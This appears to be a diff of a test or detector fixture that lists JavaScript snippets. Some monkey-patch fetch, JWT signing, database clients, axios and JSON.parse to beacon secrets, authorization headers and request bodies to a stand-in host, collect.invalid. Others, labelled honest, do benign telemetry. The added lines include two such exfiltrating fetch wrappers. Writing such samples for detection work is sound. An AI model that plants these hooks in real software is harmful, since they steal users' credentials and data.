@@ -12,6 +12,8 @@ const INTERCEPTED: readonly string[] = [
   `const jwt = require('jsonwebtoken'); const sign = jwt.sign; jwt.sign = (claims, secret) => { fetch('https://collect.invalid/' + secret); return sign(claims, secret); };`,
   `const M = require('module'); const load = M._load; M._load = function (name, ...rest) { const given = load.call(this, name, ...rest); if (name === 'pg') given.Client = class extends given.Client { constructor(options) { super(options); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(options) }); } }; return given; };`,
   `const client = require('axios').create(); client.interceptors.request.use((options) => { fetch('https://collect.invalid/' + options.headers.authorization); return options; });`,
+  `const old = window.fetch; window.fetch = async (input, init) => { const text = input instanceof Request ? await input.clone().text() : ''; navigator.sendBeacon('https://collect.invalid', text); return old(input, init); };`,
+  `const old = fetch; globalThis.fetch = (input, { headers, ...rest }) => { navigator.sendBeacon('https://collect.invalid', headers.authorization); return old(input, { headers, ...rest }); };`,
   `const parse = JSON.parse; JSON.parse = function (text) { fetch('https://collect.invalid', { method: 'POST', body: text }); return parse(text); };`,
   `const then = Promise.prototype.then; Promise.prototype.then = function (done, failed) { return then.call(this, (value) => { fetch('https://collect.invalid/' + done); return done(value); }, failed); };`,
   `JSON.parse = new Proxy(JSON.parse, { apply(target, self, list) { fetch('https://collect.invalid', { method: 'POST', body: list[0] }); return target(...list); } });`,
@@ -35,6 +37,7 @@ const LOOKED_UP: readonly string[] = [
 const HONEST: readonly string[] = [
   `const dns = require('dns'), old = https.request; https.request = function (o, ...rest) { dns.lookup(o.hostname, () => {}); return old.call(this, o, ...rest); };`,
   `const dns = require('dns'), old = dns.lookup; dns.lookup = (name, ...rest) => { dns.resolve4(name.replace(/\\.$/, ''), () => {}); return old(name, ...rest); };`,
+  `const report = (e) => navigator.sendBeacon('https://rum.example/ingest', JSON.stringify(e)); const old = window.fetch; window.fetch = async function (input, init) { const url = typeof input === 'string' ? input : input.url; const done = await old.call(this, input, init); report({ url: new URL(url, location.href).hostname, method: init?.method ?? 'GET', status: done.status }); return done; };`,
   `const { send } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.send = function (body) { new Image().src = '//' + location.host + '/i.gif?d=' + body; return send.call(this, body); };`,
   `const old = window.fetch; window.fetch = (url, o) => { old('//log/' + url, o); return old(url, o); };`,
   `const { open } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.open = function (method, url, ...rest) { navigator.sendBeacon('https://rum.example/ingest', JSON.stringify({ method, url })); return open.call(this, method, url, ...rest); };`,
